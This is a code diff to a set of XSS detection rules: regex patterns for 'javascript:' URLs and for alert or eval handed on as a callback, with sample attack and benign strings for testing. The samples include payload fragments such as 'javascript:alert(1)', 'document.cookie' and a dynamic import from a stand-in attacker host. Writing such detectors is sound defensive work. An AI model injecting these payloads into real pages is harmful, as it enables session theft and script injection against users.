@@ -98,7 +98,7 @@ export const xssRules: readonly Rule[] = [
   ),
   pattern(
     'xss/script-url',
-    /(?:^|["'`(=\s<>,:])(?:j\s?a\s?v\s?a|v\s?b|l\s?i\s?v\s?e)\s?s\s?c\s?r\s?i\s?p\s?t\s{0,4}:(?!`)\s{0,8}(?:[\w$.'"`[\](){}\\!~+/-]{0,40}[(`=[]|\/\/|\\|[\w.]{1,24}$)|^\s{0,4}(?:j\s?a\s?v\s?a|v\s?b)\s?s\s?c\s?r\s?i\s?p\s?t\s?:{1,2}\s{0,4}$/,
+    /(?:^\s{0,8}|["'(=<>:]\s{0,2})(?:j\s?a\s?v\s?a|v\s?b|l\s?i\s?v\s?e)\s?s\s?c\s?r\s?i\s?p\s?t\s{0,4}:(?!`)\s{0,8}(?:[\w$.'"`[\](){}\\!~+/-]{0,40}[(`=[]|\/\/|\\|[\w.]{1,24}$)|^\s{0,4}(?:j\s?a\s?v\s?a|v\s?b)\s?s\s?c\s?r\s?i\s?p\s?t\s?:{1,2}\s{0,4}$/,
     {
       score: 5,
       quotable: true,
@@ -110,6 +110,22 @@ export const xssRules: readonly Rule[] = [
         '"javascript://"/></head>',
         'java script:alert(1)',
       ],
+      benign: [
+        'JavaScript: Basics of JavaScript Language',
+        'javascript: the good parts',
+        'Learn JavaScript: it is fun (really)',
+      ],
+    },
+  ),
+  // Behind a space or a backtick, where people write of it: what makes a link of it has other signs.
+  pattern(
+    'xss/script-word',
+    /[`\s,](?:j\s?a\s?v\s?a|v\s?b|l\s?i\s?v\s?e)\s?s\s?c\s?r\s?i\s?p\s?t\s{0,4}:(?!`)\s{0,8}(?:[\w$.'"`[\](){}\\!~+/-]{0,40}[(`=[]|\/\/|\\|[\w.]{1,24}$)/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.colon,
+      attacks: ['see javascript:alert(1)', '`javascript:alert(1)`'],
       benign: [
         'JavaScript: Basics of JavaScript Language',
         'javascript: the good parts',
@@ -236,6 +252,24 @@ export const xssRules: readonly Rule[] = [
       words: WORD.script,
       attacks: ['document.cookie', 'window.location=x', "document.write('x')"],
       benign: ['the document, cookie and domain', 'window [of opportunity]'],
+    },
+  ),
+  // The function that shows a box, handed on instead of called.
+  pattern(
+    'xss/handed-on',
+    /\.(?:find|map|foreach|some|every|filter|reduce|sort|flatmap|findindex)\s{0,2}\(\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}\)|\(\s{0,2}\w{1,12}\s{0,2}=\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}\)\s{0,2}[(`]|\b\w{1,12}\s{0,2}=\s{0,2}(?:alert|confirm|prompt|eval)\s{0,2}[,;]\s{0,2}\w{1,12}\s{0,2}[(`]|\*\/\s{0,4}(?:alert|confirm|prompt|eval)\s{0,2}[(`]|\bimport\s{0,2}\(\s{0,2}["'`](?:https?:)?\/\//,
+    {
+      score: 5,
+      quotable: true,
+      words: WORD.script,
+      attacks: [
+        '[1].find(alert)',
+        '(a=alert)(1)',
+        'a=alert,a(1)',
+        '*/alert(1)/*',
+        'import(`//evil.example/x.js`)',
+      ],
+      benign: ['items.find(x)', 'a = alert', 'import(`./page.js`)', 'the alert, a (red) one'],
     },
   ),
   // What a probe calls, and calls that hide what is called.
